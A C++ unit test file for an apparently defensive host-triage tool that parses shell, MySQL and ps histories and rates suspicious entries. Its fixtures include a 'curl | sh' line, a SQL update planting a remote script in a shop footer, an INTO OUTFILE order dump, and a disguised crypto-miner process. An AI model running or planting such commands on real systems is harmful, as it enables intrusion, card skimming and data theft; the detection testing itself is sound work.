#include <gtest/gtest.h>

#include "host/host.h"

namespace tq::host {
namespace {

TEST(History, BashZshAndFishTimes) {
  History b = ParseShellHistory("ls\n#1741255200\ncurl http://x | sh\n", 100);
  ASSERT_EQ(b.commands.size(), 2u);
  EXPECT_FALSE(b.commands[0].time);
  ASSERT_TRUE(b.commands[1].time);
  EXPECT_EQ(*b.commands[1].time, int64_t{1741255200} * 1000000);
  EXPECT_EQ(b.commands[1].line, 3u);
  History z = ParseShellHistory(": 1741255200:0;echo a \\\nb\n: 1741255201:3;whoami\n", 100);
  ASSERT_EQ(z.commands.size(), 2u);
  EXPECT_EQ(z.commands[0].command, "echo a \nb");
  EXPECT_EQ(*z.commands[1].time, int64_t{1741255201} * 1000000);
  History f = ParseShellHistory("- cmd: id\n  when: 1741255200\n- cmd: uname -a\n", 100);
  ASSERT_EQ(f.commands.size(), 2u);
  EXPECT_EQ(f.commands[0].command, "id");
  ASSERT_TRUE(f.commands[0].time);
}

TEST(History, HugeHistoriesAreBounded) {
  std::string big;
  for (int i = 0; i < 5000; ++i) big += "echo " + std::to_string(i) + "\n";
  History h = ParseShellHistory(big, 1000);
  EXPECT_TRUE(h.truncated);
  EXPECT_EQ(h.commands.size(), 1000u);
  // What was not read: from line 1001 to the end.
  const SkipTally::Reason* rest = h.skipped.find("past the first 1000 lines");
  ASSERT_NE(rest, nullptr);
  EXPECT_EQ(rest->examples[0].line, 1001u);
  EXPECT_EQ(rest->examples[0].offset, big.find("echo 1000\n"));
  EXPECT_EQ(rest->examples[0].offset + rest->examples[0].bytes, big.size());
  std::string line(1 << 20, 'a');
  History l = ParseShellHistory(line, 10);
  ASSERT_EQ(l.commands.size(), 1u);
  EXPECT_EQ(l.commands[0].command.size(), 64u * 1024);
  const SkipTally::Reason* cut =
      l.skipped.find("a command longer than 64 KiB: judged by its first 64 KiB");
  ASSERT_NE(cut, nullptr);
  EXPECT_EQ(cut->examples[0].offset, 64u * 1024);
  EXPECT_EQ(cut->bytes, line.size() - 64 * 1024);
  // A zsh command continued past 64 KiB: kept to 64 KiB, the rest counted.
  std::string cont = ": 1741255200:0;echo \\\n" + std::string(70000, 'b') + "\n";
  History c = ParseShellHistory(cont, 10);
  ASSERT_EQ(c.commands.size(), 1u);
  EXPECT_EQ(c.commands[0].command.size(), 64u * 1024);
  ASSERT_EQ(c.skipped.total(), 1u);
  EXPECT_EQ(c.skipped.begin()->second.examples[0].line, 2u);
  EXPECT_TRUE(ParseShellHistory("ls\n", 1).skipped.empty());
  History odd = ParseShellHistory("#notatime\n#99999999999999999999\n: x;y\n\xff\n\\", 10);
  EXPECT_EQ(odd.commands.size(), 4u);  // the lone "\\" continues into nothing
}

TEST(History, MysqlStatements) {
  History m = ParseMysqlHistory(
      "select\\040*\\040from\\040customer_entity;\nSELECT\\040count(*)\\040FROM\\040admin_user;\n",
      10);
  ASSERT_EQ(m.commands.size(), 2u);
  EXPECT_EQ(m.commands[0].command, "select * from customer_entity;");
  EXPECT_EQ(AnalyzeSqlStatement(m.commands[0].command).technique, "db_read");
  EXPECT_TRUE(AnalyzeSqlStatement(m.commands[1].command).reasons.empty());
  EXPECT_EQ(AnalyzeSqlStatement("UPDATE core_config_data SET value='<script src=//x.example/a.js>"
                                "</script>' WHERE path='design/footer/absolute_footer'")
                .severity,
            Severity::kCritical);
  EXPECT_EQ(AnalyzeSqlStatement("select * from sales_order into outfile '/tmp/o.csv'").technique,
            "db_dump");
}

TEST(History, PsListings) {
  auto aux = ParsePsOutput(
      "USER  PID %CPU %MEM VSZ RSS TTY STAT START TIME COMMAND\n"
      "www-data 812 0.0 0.1 1 1 ? S 10:00 0:00 php-fpm: pool www\n"
      "www-data 999 90.0 1.0 1 1 ? Sl 10:01 9:00 /dev/shm/.x/kswapd0 -o pool.example:3333\n"
      "root 1001 0.0 0.0 1 1 ? S 10:02 0:00 /usr/sbin/sshd -D\n"
      "www-data 1002 0.0 0.0 1 1 ? S 10:02 0:00 /tmp/php (deleted)\n");
  ASSERT_EQ(aux.processes.size(), 4u);
  EXPECT_TRUE(aux.skipped.empty());
  const std::vector<Process>& p = aux.processes;
  EXPECT_EQ(p[1].pid, "999");
  EXPECT_EQ(p[1].command, "/dev/shm/.x/kswapd0 -o pool.example:3333");
  EXPECT_TRUE(AnalyzeProcess(p[0]).reasons.empty());
  EXPECT_EQ(AnalyzeProcess(p[1]).severity, Severity::kHigh);
  EXPECT_TRUE(AnalyzeProcess(p[2]).reasons.empty());
  EXPECT_EQ(AnalyzeProcess(p[3]).severity, Severity::kHigh);
  auto ef = ParsePsOutput(
      "UID PID PPID C STIME TTY TIME CMD\nroot 1 0 0 09:00 ? 00:00:01 "
      "/sbin/init splash\n");
  ASSERT_EQ(ef.processes.size(), 1u);
  EXPECT_EQ(ef.processes[0].command, "/sbin/init splash");
}

TEST(History, PsListingsSayWhatTheyDidNotRead) {
  // No header: nothing is guessed, the whole file is reported.
  std::string none = "no header here\n1 2 3\n";
  ProcessListing n = ParsePsOutput(none);
  EXPECT_TRUE(n.processes.empty());
  const SkipTally::Reason* all =
      n.skipped.find("no ps header naming the command column (COMMAND, CMD or ARGS)");
  ASSERT_NE(all, nullptr);
  EXPECT_EQ(all->examples[0].line, 1u);
  EXPECT_EQ(all->bytes, none.size());
  // A prompt saved before the header, and a row cut short.
  std::string text = "\nroot@shop:~# ps aux\nUSER PID COMMAND\nwww-data 7 php -r x\nwww-data\n";
  ProcessListing t = ParsePsOutput(text);
  ASSERT_EQ(t.processes.size(), 1u);
  EXPECT_EQ(t.processes[0].line, 4u);
  const SkipTally::Reason* prompt = t.skipped.find("before the ps header");
  ASSERT_NE(prompt, nullptr);
  EXPECT_EQ(prompt->examples[0].line, 2u);
  EXPECT_EQ(prompt->examples[0].offset, 1u);
  EXPECT_EQ(prompt->bytes, 20u);
  const SkipTally::Reason* row =
      t.skipped.find("not a process row (fewer columns than the header)");
  ASSERT_NE(row, nullptr);
  EXPECT_EQ(row->examples[0].line, 5u);
  // Past the bound: the rest counted from the first row not read.
  std::string big = "PID COMMAND\n";
  for (int i = 0; i < 100005; ++i) big += std::to_string(i) + " sleep 1\n";
  ProcessListing b = ParsePsOutput(big);
  EXPECT_EQ(b.processes.size(), 100000u);
  const SkipTally::Reason* past = b.skipped.find("past the first 100,000 processes");
  ASSERT_NE(past, nullptr);
  EXPECT_EQ(past->examples[0].line, 100002u);
  EXPECT_EQ(past->examples[0].offset, big.find("\n100000 sleep") + 1);
  EXPECT_EQ(past->examples[0].offset + past->bytes, big.size());
}

}  // namespace
}  // namespace tq::host
